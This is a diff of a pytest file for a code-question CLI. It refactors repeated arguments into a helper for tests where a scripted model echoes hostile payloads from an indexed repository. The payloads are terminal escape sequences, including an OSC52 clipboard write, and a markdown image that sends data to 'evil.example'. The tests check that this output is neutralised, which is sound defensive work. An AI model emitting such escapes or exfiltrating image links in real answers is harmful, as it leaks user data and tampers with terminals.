@@ -257,23 +257,20 @@ def echo_the_payloads(messages: list[dict]) -> str:
     return "It returns " + "".join(PAYLOADS.values()) + " and see ![x](https://evil.example/?d=k)."
 
 
+def ask_the_echo_model(repo, index_dir) -> list[str]:
+    """`codeqa ask` arguments for a keyword-only question answered by the echoing model."""
+    question = f"what does {MARKER}_0 return?"
+    model = ["--model", "scripted/echo", "--mode", "bm25"]
+    return ["ask", question, *index_args(repo, index_dir), *model]
+
+
 @pytest.mark.slow
 def test_ask_with_a_model_repeating_escapes_prints_them_visibly(
     hostile_repo, capsys, scripted, monkeypatch
 ):
     scripted(otherwise=echo_the_payloads)
     repo, index_dir = hostile_repo
-    code, out = run_cli(
-        capsys,
-        "ask",
-        f"what does {MARKER}_0 return?",
-        *index_args(repo, index_dir),
-        "--model",
-        "scripted/echo",
-        "--mode",
-        "bm25",
-        "--show-sources",
-    )
+    code, out = run_cli(capsys, *ask_the_echo_model(repo, index_dir), "--show-sources")
     assert code == 0, out
     assert "It returns ␛]52;c;" in out
     assert "?d=k" not in out  # the image's address, with its data, is gone
@@ -286,17 +283,7 @@ def test_ask_json_with_a_model_keeps_the_answer_valid_json_without_the_image(
 ):
     scripted(otherwise=echo_the_payloads)
     repo, index_dir = hostile_repo
-    code, out = run_cli(
-        capsys,
-        "ask",
-        f"what does {MARKER}_0 return?",
-        *index_args(repo, index_dir),
-        "--model",
-        "scripted/echo",
-        "--mode",
-        "bm25",
-        "--json",
-    )
+    code, out = run_cli(capsys, *ask_the_echo_model(repo, index_dir), "--json")
     assert code == 0, out
     reply = json.loads(out[out.index("{") :])
     assert PAYLOADS["osc52 clipboard"] in reply["answer"]  # JSON carries text exactly
@@ -355,17 +342,7 @@ def test_a_streamed_answer_on_a_terminal_carries_no_raw_controls(hostile_repo, s
     subprocess.run(["cp", "-r", str(built), str(index_dir)], check=True)
     (repo / "later.py").write_text(f"# {MARKER} {PAYLOADS['osc8 hyperlink']}\n")  # a progress line
     try:
-        output = on_a_terminal(
-            [
-                "ask",
-                f"what does {MARKER}_0 return?",
-                *index_args(repo, index_dir),
-                "--model",
-                "scripted/echo",
-                "--mode",
-                "bm25",
-            ]
-        )
+        output = on_a_terminal(ask_the_echo_model(repo, index_dir))
     finally:
         (repo / "later.py").unlink()
     shown = without_progress_redraws(output)
